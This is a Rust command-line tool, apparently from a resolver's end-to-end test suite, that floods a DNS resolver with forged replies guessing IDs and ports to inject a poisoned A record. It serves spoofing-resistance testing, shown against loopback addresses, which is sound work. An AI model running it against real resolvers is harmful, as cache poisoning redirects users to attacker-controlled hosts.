//! `dns-spoof`: a blind spoofer for the spoofing race (see [`e2e::spoof`]):
//! forged replies from `--server`:53 to each `--target` address on every port
//! of `--ports`, random IDs, a poisoned A record for `--qname`.
//!
//! ```text
//! dns-spoof --target 127.0.0.1 --server 127.9.0.3 --qname www.example.test \
//!     --answer 6.6.6.6 [--ports 32768-60999] [--count 1000000] [--duration 2]
//! ```
//! Sends at most `--count` datagrams, no faster than count/duration per second.
//! Prints `sent <n>` (datagrams sent) and exits 0; 64 on bad arguments, 1 when
//! the raw socket cannot be opened (needs root or CAP_NET_RAW).

use std::net::Ipv4Addr;
use std::ops::RangeInclusive;
use std::process::ExitCode;
use std::sync::atomic::AtomicBool;
use std::time::Duration;

use clap::Parser;
use e2e::spoof::{spoof, SpoofSpec};
use hickory_proto::rr::Name;

/// Flood a resolver's outgoing query with forged answers (guessed IDs and ports).
#[derive(Debug, Parser)]
#[command(name = "dns-spoof", version)]
struct Args {
    /// The resolver's upstream-facing address(es): comma-separated or repeated.
    #[arg(long, value_delimiter = ',', required = true)]
    target: Vec<Ipv4Addr>,
    /// The authoritative server to impersonate (source address).
    #[arg(long)]
    server: Ipv4Addr,
    /// The source port of the forged replies.
    #[arg(long, default_value_t = 53)]
    server_port: u16,
    /// The name being resolved.
    #[arg(long)]
    qname: Name,
    /// The poisoned address.
    #[arg(long)]
    answer: Ipv4Addr,
    /// TTL of the poisoned record.
    #[arg(long, default_value_t = 86_400)]
    ttl: u32,
    /// Destination ports, `LOW-HIGH` (Linux's default ephemeral range).
    #[arg(long, default_value = "32768-60999", value_parser = port_range)]
    ports: RangeInclusive<u16>,
    /// Stop after this many datagrams; they are spread over --duration (a
    /// rate of count/duration per second at most).
    #[arg(long, default_value_t = 1_000_000)]
    count: u64,
    /// Stop after this many seconds (fractions allowed).
    #[arg(long, default_value_t = 2.0)]
    duration: f64,
}

/// Parses `LOW-HIGH` (or one port).
fn port_range(text: &str) -> Result<RangeInclusive<u16>, String> {
    let (low, high) = text.split_once('-').unwrap_or((text, text));
    let low: u16 = low.trim().parse().map_err(|e| format!("{low}: {e}"))?;
    let high: u16 = high.trim().parse().map_err(|e| format!("{high}: {e}"))?;
    if low > high || low == 0 {
        return Err(format!("empty port range {text}"));
    }
    Ok(low..=high)
}

fn main() -> ExitCode {
    let args: Args = match e2e::tool::parse_args() {
        Ok(args) => args,
        Err(code) => return code,
    };
    let Ok(duration) = Duration::try_from_secs_f64(args.duration) else {
        eprintln!("dns-spoof: --duration {}: not a duration", args.duration);
        return ExitCode::from(64);
    };
    let spec = SpoofSpec {
        targets: args.target,
        server: args.server,
        server_port: args.server_port,
        qname: args.qname,
        answer: args.answer,
        ttl: args.ttl,
        ports: args.ports,
        count: args.count,
        duration,
    };
    e2e::tool::exit_code(
        "dns-spoof",
        spoof(&spec, &AtomicBool::new(false)).and_then(|sent| {
            use std::io::Write as _;
            writeln!(std::io::stdout().lock(), "sent {sent}")?;
            Ok(())
        }),
    )
}
